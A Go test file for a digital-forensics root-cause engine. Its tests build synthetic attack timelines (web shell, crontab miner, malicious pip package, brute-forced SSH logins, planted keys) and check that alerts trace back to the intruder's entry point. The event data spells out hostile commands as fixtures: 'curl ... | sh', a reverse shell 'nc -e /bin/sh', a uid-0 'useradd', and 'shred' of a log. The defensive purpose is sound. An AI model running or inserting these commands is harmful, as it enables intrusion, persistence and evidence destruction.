package rootcause_test

import (
	"errors"
	"testing"
	"time"

	"github.com/exhibit-dfir/exhibit/analyze/rootcause"
	"github.com/exhibit-dfir/exhibit/timeline"
	"github.com/exhibit-dfir/exhibit/timeline/store/memory"
)

const outside = "203.0.113.7"

func TestWebShellThenCronThenMinerLeadsToTheUpload(t *testing.T) {
	s := tell(t, "shop1")
	s.boot()
	web := s.daemon("/usr/sbin/apache2", "apache2.service")
	s.after(time.Hour).noise(10)
	s.request(outside, "POST", "http://shop/upload.php")
	s.write(web, "file-created", "/var/www/html/img/x.php").User = "www-data"
	s.after(20 * time.Second).noise(1)
	s.request("10.0.0.91", "GET", "http://shop/index.html")
	s.request(outside, "GET", "http://shop/img/x.php?c=id")
	web.UID = 33
	s.exec(web, "/usr/bin/dash", "sh -c id")
	s.after(10 * time.Second)
	s.request(outside, "GET", "http://shop/img/x.php?c=crontab+%2Ftmp%2Fc")
	sh := s.exec(web, "/usr/bin/dash", "sh -c crontab /tmp/c")
	ct := s.exec(sh, "/usr/bin/crontab", "crontab /tmp/c")
	s.write(ct, "file-created", "/var/spool/cron/crontabs/www-data")
	s.after(time.Minute)
	run := s.cron("www-data", "/tmp/.x/kswap -o pool:3333")
	miner := s.exec(run, "/tmp/.x/kswap", "/tmp/.x/kswap -o pool:3333")
	pool := s.connect(miner, "198.51.100.40", 3333)
	s.noise(3)
	why := ask(t, s)
	for _, alert := range []*timeline.Event{miner, pool, sh, ct} {
		firstEntry(t, why(alert), "web request", "", outside)
	}
}

func TestMaliciousPackageIsNamedBeforeTheAdministratorWhoInstalledIt(t *testing.T) {
	s := tell(t, "build1")
	s.boot()
	s.after(time.Hour).noise(5)
	_, sh := s.login("dave", "10.0.0.20", "publickey", "SHA256:dave", 31)
	pip := s.exec(sh, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/pip install colourful-logs")
	setup := s.exec(pip, "/usr/bin/python3.11", "/usr/bin/python3 setup.py install")
	drop := s.exec(setup, "/usr/bin/dash", "sh -c curl -s http://198.51.100.8/a | sh")
	s.write(drop, "file-created", "/home/dave/.config/systemd/user/log.service")
	out := s.connect(s.exec(drop, "/usr/bin/curl", "curl -s http://198.51.100.8/a"), "198.51.100.8", 80)
	s.noise(5)
	firstEntry(t, ask(t, s)(out), "package installation", "dave", "")
}

func TestPackageInstalledByAnIntruderLeadsToTheIntruder(t *testing.T) {
	s := tell(t, "web2")
	s.boot()
	s.after(time.Hour).noise(3)
	for range 12 {
		s.fail("dave", outside)
	}
	_, sh := s.login("dave", outside, "password", "", 31)
	apt := s.exec(sh, "/usr/bin/apt-get", "apt-get install -y nmap")
	post := s.exec(s.exec(apt, "/usr/bin/dpkg", "dpkg --configure nmap"), "/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/nmap.postinst configure")
	scan := s.exec(sh, "/usr/bin/nmap", "nmap 10.0.0.0/24")
	why := ask(t, s)
	firstEntry(t, why(scan), "password guessing", "dave", outside)
	firstEntry(t, why(post), "password guessing", "dave", outside)
}

func TestStolenKeyIsFollowedToTheHostItWasUsedFrom(t *testing.T) {
	a := tell(t, "bastion1")
	a.boot()
	a.after(time.Hour).noise(2)
	for range 9 {
		a.fail("erin", outside)
	}
	_, sh := a.login("erin", outside, "password", "", 21)
	a.exec(sh, "/usr/bin/cat", "cat /home/erin/.ssh/id_ed25519")
	client := a.exec(sh, "/usr/bin/ssh", "ssh erin@files2")
	b := tell(t, "files2")
	b.at("2026-03-02 07:00:00").boot()
	b.after(30 * time.Minute).noise(4)
	b.now = a.now.Add(time.Second)
	_, in := b.login("erin", "10.0.0.9", "publickey", "SHA256:erin", 77)
	tar := b.exec(in, "/usr/bin/tar", "tar czf /tmp/all.tgz /srv")
	_ = client
	g := ask(t, a, b)(tar)
	firstEntry(t, g, "password guessing", "erin", outside)
	if only := ask(t, b)(tar); len(only.Entries) == 0 || only.Entries[0].Kind != "remote login" || only.Entries[0].Address != "10.0.0.9" {
		t.Errorf("with one host only, the internal login must be named: %s", describe(only))
	}
}

func TestSudoAbuseLeadsToTheLoginOfTheAbuser(t *testing.T) {
	s := tell(t, "db1")
	s.boot()
	s.after(time.Hour).noise(4)
	_, sh := s.login("frank", "10.0.0.33", "password", "", 9)
	su := s.exec(sh, "/usr/bin/sudo", "sudo vi /etc/motd")
	line := s.event("syslog:sudo", "privilege-used")
	line.User, line.Cmdline = "frank", "/usr/bin/vi /etc/motd"
	su.UID = 0
	vi := s.exec(su, "/usr/bin/vi", "vi /etc/motd")
	root := s.exec(vi, "/usr/bin/bash", "/bin/bash")
	dump := s.exec(root, "/usr/bin/mysqldump", "mysqldump --all-databases")
	pw := s.write(root, "file-opened-for-write", "/etc/passwd")
	s.noise(3)
	why := ask(t, s)
	for _, alert := range []*timeline.Event{dump, pw, line, root} {
		firstEntry(t, why(alert), "remote login", "frank", "10.0.0.33")
	}
}

func TestPersistenceAcrossABootLeadsToTheSessionBeforeIt(t *testing.T) {
	s := tell(t, "app1")
	s.boot()
	s.after(time.Hour).noise(3)
	for _, u := range []string{"root", "admin", "git", "oracle", "grace", "grace"} {
		s.fail(u, outside)
	}
	_, sh := s.login("grace", outside, "password", "", 12)
	sudo := s.exec(sh, "/usr/bin/sudo", "sudo -i")
	sudo.UID = 0
	root := s.exec(sudo, "/usr/bin/bash", "-bash")
	s.exec(root, "/usr/bin/cp", "cp /tmp/netd /usr/local/sbin/netd")
	unit := s.write(root, "file-created", "/etc/systemd/system/netd.service")
	s.exec(root, "/usr/bin/systemctl", "systemctl enable netd.service")
	s.write(root, "file-created", "/etc/cron.d/rotate-local")
	s.after(30 * time.Hour)
	s.boot()
	s.after(20 * time.Second)
	// Session numbers start again: 12 now belongs to somebody else.
	s.after(5 * time.Minute)
	_, other := s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 12)
	s.exec(other, "/usr/bin/uptime", "uptime")
	netd := s.daemon("/usr/local/sbin/netd", "netd.service")
	beacon := s.connect(netd, "198.51.100.60", 443)
	run := s.cron("root", "/usr/local/sbin/netd --check # rotate-local")
	why := ask(t, s)
	for _, alert := range []*timeline.Event{unit, netd, beacon, run} {
		firstEntry(t, why(alert), "password guessing", "grace", outside)
	}
}

func TestPlantedKeyLeadsToTheSessionThatPlantedIt(t *testing.T) {
	s := tell(t, "mail1")
	s.boot()
	s.after(time.Hour).noise(3)
	for range 8 {
		s.fail("heidi", outside)
	}
	_, sh := s.login("heidi", outside, "password", "", 14)
	root := s.exec(s.exec(sh, "/usr/bin/sudo", "sudo -s"), "/usr/bin/bash", "/bin/bash")
	root.UID = 0
	s.write(root, "file-opened-for-write", "/root/.ssh/authorized_keys")
	s.noise(2)
	s.after(3 * time.Hour)
	_, back := s.login("root", "198.51.100.77", "publickey", "SHA256:planted", 40)
	rm := s.exec(back, "/usr/bin/shred", "shred /var/log/mail.log")
	firstEntry(t, ask(t, s)(rm), "password guessing", "heidi", outside)
}

func TestNewAccountLeadsToTheSessionThatMadeIt(t *testing.T) {
	s := tell(t, "vpn1")
	s.boot()
	s.after(time.Hour).noise(3)
	for range 8 {
		s.fail("ivan", outside)
	}
	_, sh := s.login("ivan", outside, "password", "", 14)
	add := s.exec(sh, "/usr/sbin/useradd", "useradd -o -u 0 support")
	ev := s.event("linux:audit:event", "account-created")
	ev.PID, ev.PPID, ev.Session, ev.Exe = add.PID, add.PPID, add.Session, add.Exe
	attr(ev, "target_user", "support")
	s.after(time.Hour)
	_, in := s.login("support", "198.51.100.78", "password", "", 41)
	copied := s.exec(in, "/usr/bin/scp", "scp x y")
	firstEntry(t, ask(t, s)(copied), "password guessing", "ivan", outside)
}

func TestMistypedPasswordIsNotGuessing(t *testing.T) {
	s := tell(t, "pc1")
	s.boot()
	for range 5 {
		s.fail("judy", "10.0.0.40")
		s.fail("judy", "10.0.0.40")
		_, sh := s.login("judy", "10.0.0.40", "password", "", 3+len(s.events))
		s.exec(sh, "/usr/bin/ls", "ls")
		s.after(10 * time.Minute)
	}
	_, sh := s.login("judy", "10.0.0.40", "password", "", 2)
	tar := s.exec(sh, "/usr/bin/tar", "tar c /")
	firstEntry(t, ask(t, s)(tar), "remote login", "judy", "10.0.0.40")
}

func TestWithoutAuditRecordsSudoLinesAndFileTimesLeadToTheLogin(t *testing.T) {
	s := tell(t, "old1")
	s.audit = false
	s.boot()
	s.after(time.Hour)
	for i := range 3 {
		s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 500+i)
		end := s.event("syslog:systemd", "session-closed")
		end.Session, end.User = "50"+string(rune('0'+i)), "carol"
		s.after(10 * time.Minute)
	}
	for range 15 {
		s.fail("karl", outside)
	}
	s.login("karl", outside, "password", "", 60)
	sudo := s.event("syslog:sudo", "privilege-used")
	sudo.User, sudo.Cmdline = "karl", "/usr/bin/cp /tmp/netd /etc/cron.d/netd"
	file := s.stat("/etc/cron.d/netd", "root")
	run := s.after(time.Minute).cron("root", "/usr/local/bin/netd -q")
	why := ask(t, s)
	for _, alert := range []*timeline.Event{sudo, file, run} {
		firstEntry(t, why(alert), "password guessing", "karl", outside)
	}
}

func TestWithoutAuditRecordsAWebShellLeadsToItsUploader(t *testing.T) {
	s := tell(t, "shop2")
	s.audit = false
	s.boot()
	s.after(time.Hour)
	for range 40 {
		s.request("10.0.0.90", "GET", "http://shop/index.html")
		s.request("10.0.0.91", "GET", "http://shop/img/logo.png")
		s.after(7 * time.Second)
	}
	s.request(outside, "POST", "http://shop/upload.php")
	s.stat("/var/www/html/img/x.php", "www-data")
	s.after(30*time.Second).request("10.0.0.90", "GET", "http://shop/index.html")
	s.request(outside, "GET", "http://shop/img/x.php?c=crontab")
	table := s.stat("/var/spool/cron/crontabs/www-data", "www-data")
	s.request("10.0.0.91", "GET", "http://shop/index.html")
	run := s.after(time.Minute).cron("www-data", "/tmp/.x/kswap")
	why := ask(t, s)
	firstEntry(t, why(table), "web request", "", outside)
	firstEntry(t, why(run), "web request", "", outside)
}

func TestLiveProcessLeadsToTheSessionItCarries(t *testing.T) {
	s := tell(t, "live1")
	s.audit = false
	s.boot()
	s.after(time.Hour)
	s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 4)
	for range 10 {
		s.fail("luke", outside)
	}
	s.login("luke", outside, "password", "", 5)
	s.after(time.Minute)
	p := s.event("linux:process:state", "process-started")
	p.PID, p.PPID, p.Session, p.Exe, p.Cmdline, p.User = 4711, 1, "5", "/dev/shm/.k (deleted)", "/dev/shm/.k", "luke"
	s.after(time.Hour)
	sock := s.event("linux:socket:state", "socket-state")
	sock.PID, sock.Exe, sock.SrcIP, sock.SrcPort, sock.DstIP, sock.DstPort = 4711, "/dev/shm/.k", "10.0.0.5", 44000, "198.51.100.9", 443
	why := ask(t, s)
	firstEntry(t, why(p), "password guessing", "luke", outside)
	firstEntry(t, why(sock), "password guessing", "luke", outside)
}

func TestHistoryLinesLeadToTheSessionOfTheirAccount(t *testing.T) {
	s := tell(t, "hist1")
	s.audit = false
	s.boot()
	s.after(time.Hour)
	s.login("mike", "198.51.100.90", "password", "", 6)
	s.after(time.Minute)
	h := s.event("bash:history:entry", "command-entered")
	h.User, h.Cmdline = "mike", "curl -O http://203.0.113.9/kd"
	firstEntry(t, ask(t, s)(h), "remote login", "mike", "198.51.100.90")
}

// Histories write whole seconds, logs fractions of them.
func TestHistoryLineOfTheSecondOfTheLoginBelongsToIt(t *testing.T) {
	s := tell(t, "hist2")
	s.audit = false
	s.boot()
	s.after(time.Hour + 400*time.Millisecond)
	second := s.now.Truncate(time.Second)
	s.login("mike", "198.51.100.90", "publickey", "", 6)
	h := s.event("bash:history:entry", "command-entered")
	h.User, h.Cmdline = "mike", "curl -O http://203.0.113.9/kd"
	h.SetTime(second)
	firstEntry(t, ask(t, s)(h), "remote login", "mike", "198.51.100.90")
}

func TestProcessNumberUsedAgainIsAnotherProcess(t *testing.T) {
	s := tell(t, "pid1")
	s.boot()
	s.after(time.Hour)
	_, old := s.login("carol", "10.0.0.77", "publickey", "SHA256:carol", 3)
	reused := old.PID
	s.after(5 * time.Hour)
	for range 9 {
		s.fail("nina", outside)
	}
	_, sh := s.login("nina", outside, "password", "", 4)
	mid := s.exec(sh, "/usr/bin/bash", "bash")
	mid.PID = reused
	evil := s.exec(mid, "/usr/bin/nc", "nc -e /bin/sh 198.51.100.4 1")
	firstEntry(t, ask(t, s)(evil), "password guessing", "nina", outside)
}

func TestUnknownEventIsAnErrorAndNoCauseIsNoEntry(t *testing.T) {
	s := tell(t, "none1")
	ev := s.event("syslog:line", "")
	ev.Message = "something"
	g := ask(t, s)(ev)
	if len(g.Entries) != 0 || len(g.Gaps) == 0 {
		t.Errorf("an event without a cause has entries %v and gaps %v", g.Entries, g.Gaps)
	}
	var none timeline.ID
	if _, err := rootcause.Why(t.Context(), memory.New(s.events), []timeline.ID{none}, rootcause.Options{}); !errors.Is(err, rootcause.ErrNoAlert) {
		t.Errorf("unknown event: %v", err)
	}
}

func TestBoundsHold(t *testing.T) {
	s, alert := intrusion(t)
	eng := memory.New(s.events)
	for _, opt := range []rootcause.Options{{MaxEdges: 3}, {MaxDepth: 2}, {MaxNodes: 2}, {MaxFacts: 10}, {Horizon: time.Minute}} {
		g, err := rootcause.Why(t.Context(), eng, []timeline.ID{alert.ID}, opt)
		if err != nil {
			t.Fatal(err)
		}
		if opt.MaxEdges > 0 && len(g.Edges) > opt.MaxEdges {
			t.Errorf("%d edges, at most %d were asked for", len(g.Edges), opt.MaxEdges)
		}
	}
}

func TestInferredEdgesNeverOutweighOthers(t *testing.T) {
	s, alert := intrusion(t)
	g := ask(t, s)(alert)
	best := map[int]float64{}
	for _, e := range g.Edges {
		if e.Class != rootcause.Inferred && e.Score > 0 {
			best[e.To] = max(best[e.To], e.Score)
		}
	}
	for _, e := range g.Edges {
		if b, ok := best[e.To]; ok && e.Class == rootcause.Inferred && e.Score > b {
			t.Errorf("%s outweighs a better edge: %.2f > %.2f", e.Rule, e.Score, b)
		}
	}
}

func TestEverySentenceCitesEventsOfTheCase(t *testing.T) {
	s, alert := intrusion(t)
	known := map[timeline.ID]bool{}
	for _, ev := range s.events {
		known[ev.ID] = true
	}
	for _, line := range ask(t, s)(alert).Narrative {
		if len(line.Events) == 0 {
			t.Errorf("nothing cited: %s", line.Text)
		}
		for _, id := range line.Events {
			if !known[id] {
				t.Errorf("%s cites the unknown event %s", line.Text, id)
			}
		}
	}
}
